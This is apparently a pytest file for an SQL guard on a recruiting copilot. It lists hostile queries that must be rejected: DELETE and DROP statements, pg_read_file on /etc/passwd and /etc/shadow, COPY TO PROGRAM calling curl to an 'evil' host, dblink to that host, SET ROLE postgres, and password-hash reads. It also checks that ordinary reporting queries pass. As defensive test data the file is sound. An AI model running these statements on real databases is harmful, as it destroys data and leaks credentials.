"""The SQL guard: hostile SQL is refused with a reason, reporting SQL runs as checked."""

from __future__ import annotations

import pytest

from data_layer.recruiting.sql_guard import MAX_SQL_CHARS, SQLRejected, guard_sql
from tests.support.copilot_red_team import HOSTILE_SQL as RED_TEAM_SQL

# Written for the guard; the evaluation's red team (tests/support) adds its own.
HOSTILE_SQL: tuple[str, ...] = (
    # data changes, also hidden in CTEs and subqueries
    "DELETE FROM copilot.candidates",
    "UPDATE copilot.jobs SET is_hot = true",
    "INSERT INTO copilot.jobs (title) VALUES ('x')",
    "WITH x AS (DELETE FROM candidates RETURNING *) SELECT * FROM x",
    "WITH x AS (UPDATE applications SET status = 'placed' RETURNING *) SELECT count(*) FROM x",
    "WITH x AS (INSERT INTO share_links (share_code) VALUES ('a') RETURNING *) SELECT 1",
    "WITH a AS (SELECT 1), b AS (DELETE FROM jobs RETURNING 1) SELECT * FROM a",
    "MERGE INTO jobs USING candidates ON true WHEN MATCHED THEN DELETE",
    "TRUNCATE copilot.applications",
    "DROP VIEW copilot.jobs",
    "DROP TABLE public.users CASCADE",
    "CREATE TABLE loot AS SELECT * FROM copilot.candidates",
    "ALTER TABLE candidates DISABLE ROW LEVEL SECURITY",
    "GRANT SELECT ON public.users TO copilot_reader",
    "COMMENT ON VIEW copilot.jobs IS 'x'",
    # SELECT INTO and locking
    "SELECT * INTO loot FROM copilot.candidates",
    "SELECT email INTO TEMP loot FROM candidates",
    "SELECT * FROM copilot.candidates FOR UPDATE",
    "SELECT * FROM copilot.applications FOR SHARE",
    "SELECT * FROM jobs FOR NO KEY UPDATE SKIP LOCKED",
    "LOCK TABLE candidates IN ACCESS EXCLUSIVE MODE",
    # more than one statement
    "SELECT 1; DELETE FROM candidates",
    "SELECT count(*) FROM jobs; SELECT * FROM public.users",
    "SELECT 1;;SELECT 2",
    # session and transaction control
    "SET ROLE postgres",
    "RESET ROLE",
    "SET LOCAL copilot.admin = 'on'",
    "SET TRANSACTION READ WRITE",
    "BEGIN",
    "COMMIT",
    "ROLLBACK",
    "DISCARD ALL",
    "DO $$ BEGIN DELETE FROM candidates; END $$",
    "CALL some_procedure()",
    "EXPLAIN ANALYZE DELETE FROM candidates",
    "PREPARE p AS DELETE FROM candidates",
    "EXECUTE p",
    "LISTEN anything",
    "NOTIFY anything, 'x'",
    "VACUUM candidates",
    "COPY copilot.candidates TO '/tmp/loot.csv'",
    "COPY (SELECT * FROM candidates) TO PROGRAM 'curl http://evil'",
    # dangerous functions
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT pg_catalog.pg_read_file('postgresql.conf')",
    "SELECT pg_read_binary_file('/etc/shadow')",
    "SELECT pg_ls_dir('.')",
    "SELECT pg_sleep(600)",
    "SELECT count(*) FROM jobs WHERE pg_sleep(1) IS NOT NULL",
    "SELECT pg_sleep_for('10 minutes')",
    "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)",
    "SELECT dblink_exec('host=evil', 'drop table x')",
    "SELECT nextval('some_seq')",
    "SELECT setval('some_seq', 1)",
    "SELECT set_config('copilot.admin', 'on', true)",
    "SELECT set_config('role', 'postgres', false)",
    "SELECT current_setting('copilot.recruiter_id')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_export(1, '/tmp/x')",
    "SELECT pg_terminate_backend(1)",
    "SELECT pg_cancel_backend(1)",
    "SELECT pg_reload_conf()",
    "SELECT txid_current()",
    "SELECT copilot.enter_scope(NULL, true)",
    "SELECT copilot.in_scope(recruiter_id) FROM candidates",
    "SELECT query_to_xml('delete from candidates', true, true, '')",
    "SELECT * FROM jobs WHERE title = (SELECT version())",
    "SELECT (SELECT pg_read_file('/etc/passwd')) FROM jobs",
    "SELECT count(*) FROM jobs j WHERE EXISTS (SELECT pg_sleep(5))",
    "SELECT \"pg_read_file\"('/etc/passwd')",
    "SELECT * FROM generate_series(1, 10) g WHERE pg_sleep(1) IS NULL",
    # tables outside the copilot views
    "SELECT * FROM public.users",
    "SELECT email, password_hash FROM users",
    "SELECT * FROM public.candidates",
    "SELECT * FROM pg_catalog.pg_authid",
    "SELECT * FROM pg_user",
    "SELECT * FROM pg_roles",
    "SELECT * FROM pg_shadow",
    "SELECT * FROM pg_stat_activity",
    "SELECT * FROM information_schema.tables",
    "SELECT * FROM copilot.scope_key",
    "SELECT * FROM copilot.jobs j JOIN public.users u ON true",
    "SELECT * FROM copilot.jobs WHERE job_id IN (SELECT id FROM public.jobs)",
    "WITH x AS (SELECT * FROM public.users) SELECT * FROM x",
    "SELECT * FROM other_db.copilot.jobs",
    "TABLE public.users",
    # a CTE name that is not visible where it is used resolves to a real table
    "SELECT (WITH pg_user AS (SELECT 1) SELECT 1), * FROM pg_user",
    "WITH a AS (SELECT * FROM users), users AS (SELECT 1) SELECT * FROM a",
    # casts that reach the catalog
    "SELECT 'pg_authid'::regclass",
    "SELECT 'pg_read_file'::regproc",
    "SELECT CAST('x' AS regnamespace)",
    # parameters and tricks
    "SELECT * FROM jobs WHERE job_id = $1",
    "SELECT * FROM jobs WHERE title = :name",
    "",
    "   ",
    "-- only a comment",
    "SELECT * FROM jobs WHERE title = 'unterminated",
    "SELECT " + "1 + " * (MAX_SQL_CHARS // 4) + "1",
)


ALL_HOSTILE = tuple(dict.fromkeys((*HOSTILE_SQL, *(h.sql for h in RED_TEAM_SQL))))


def test_the_hostile_lists_are_long_enough() -> None:
    assert len(HOSTILE_SQL) >= 50
    assert len(ALL_HOSTILE) > len(HOSTILE_SQL)


@pytest.mark.parametrize("sql", ALL_HOSTILE)
def test_hostile_sql_is_rejected_with_a_reason(sql: str) -> None:
    with pytest.raises(SQLRejected) as caught:
        guard_sql(sql, max_rows=100)
    assert caught.value.reason.strip()
    assert "\n" not in caught.value.reason


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        (
            "SELECT status, count(*) FROM applications GROUP BY status",
            "SELECT status, COUNT(*) FROM copilot.applications GROUP BY status LIMIT 50",
        ),
        (
            "select count(*) from copilot.jobs where is_hot and is_open",
            "SELECT COUNT(*) FROM copilot.jobs WHERE is_hot AND is_open LIMIT 50",
        ),
        (
            "WITH mine AS (SELECT * FROM candidates) SELECT state_code, count(*) FROM mine "
            "GROUP BY 1 ORDER BY 2 DESC",
            "WITH mine AS (SELECT * FROM copilot.candidates) SELECT state_code, COUNT(*) "
            "FROM mine GROUP BY 1 ORDER BY 2 DESC LIMIT 50",
        ),
    ],
)
def test_reporting_sql_runs_over_the_copilot_views(sql: str, expected: str) -> None:
    assert guard_sql(sql, max_rows=50) == expected


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT date_trunc('month', applied_at) AS m, count(*) FILTER (WHERE status = 'placed') "
        "FROM applications WHERE applied_at >= now() - interval '90 days' GROUP BY 1 ORDER BY 1",
        "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY extract(epoch FROM "
        "first_response_at - created_at) / 60) FROM handoffs",
        "SELECT j.title, count(a.application_id) FROM jobs j LEFT JOIN applications a "
        "ON a.job_id = j.job_id WHERE j.is_hot GROUP BY j.title HAVING count(*) = 0",
        "SELECT c.state_code, count(*) FROM licenses l JOIN candidates c USING (candidate_id) "
        "WHERE l.expires_on BETWEEN current_date AND current_date + 30 GROUP BY ROLLUP (1)",
        "SELECT * FROM jobs j WHERE EXISTS (SELECT 1 FROM applications a "
        "WHERE a.job_id = j.job_id) ORDER BY posted_at DESC NULLS LAST OFFSET 5",
        "SELECT row_number() OVER (PARTITION BY state_code ORDER BY weekly_pay DESC), "
        "coalesce(weekly_pay, 0)::int, lower(title) || ' ' || upper(city) FROM jobs",
        "SELECT d::date, count(a.application_id) FROM generate_series(current_date - 6, "
        "current_date, interval '1 day') AS d LEFT JOIN applications a "
        "ON a.applied_at::date = d::date GROUP BY 1",
        "WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n WHERE i < 3) "
        "SELECT * FROM n",
        "SELECT count(*) FROM jobs WHERE state_code = ANY (ARRAY['TX', 'CA']) -- a comment",
        "SELECT 1 UNION SELECT 2",
    ],
)
def test_everyday_reporting_shapes_pass(sql: str) -> None:
    guarded = guard_sql(sql, max_rows=200)
    assert " LIMIT 200" in guarded
    assert "--" not in guarded


@pytest.mark.parametrize(
    ("sql", "limit"),
    [
        ("SELECT * FROM jobs", 100),
        ("SELECT * FROM jobs LIMIT 10", 10),
        ("SELECT * FROM jobs LIMIT 100000", 100),
        ("SELECT * FROM jobs LIMIT ALL", 100),
        ("SELECT * FROM jobs LIMIT (SELECT 100000)", 100),
        ("SELECT * FROM jobs FETCH FIRST 5 ROWS ONLY", 5),
        ("SELECT * FROM jobs FETCH FIRST 5000 ROWS ONLY", 100),
        ("SELECT 1 UNION ALL SELECT 2 LIMIT 7", 7),
    ],
)
def test_the_limit_is_never_above_max_rows(sql: str, limit: int) -> None:
    assert guard_sql(sql, max_rows=100).endswith(f"LIMIT {limit}")


def test_a_table_named_like_a_cte_elsewhere_is_still_checked() -> None:
    # "x" is a CTE only inside the subquery; outside it would be a real table.
    with pytest.raises(SQLRejected):
        guard_sql("SELECT (WITH x AS (SELECT 1) SELECT 1) FROM x", max_rows=10)
    assert (
        guard_sql("WITH jobs AS (SELECT 1 AS n) SELECT n FROM jobs", max_rows=10)
        == "WITH jobs AS (SELECT 1 AS n) SELECT n FROM jobs LIMIT 10"
    )


def test_reasons_name_what_is_wrong() -> None:
    cases = {
        "DELETE FROM candidates": "change data",
        "SELECT pg_sleep(5)": "pg_sleep",
        "SELECT * FROM public.users": "public.users",
        "SELECT * INTO x FROM jobs": "INTO",
        "SELECT * FROM jobs FOR UPDATE": "FOR UPDATE",
        "SELECT 1; SELECT 2": "one statement",
        "SELECT * FROM employees": "copilot.jobs",
    }
    for sql, words in cases.items():
        with pytest.raises(SQLRejected) as caught:
            guard_sql(sql, max_rows=10)
        assert words in caught.value.reason, (sql, caught.value.reason)
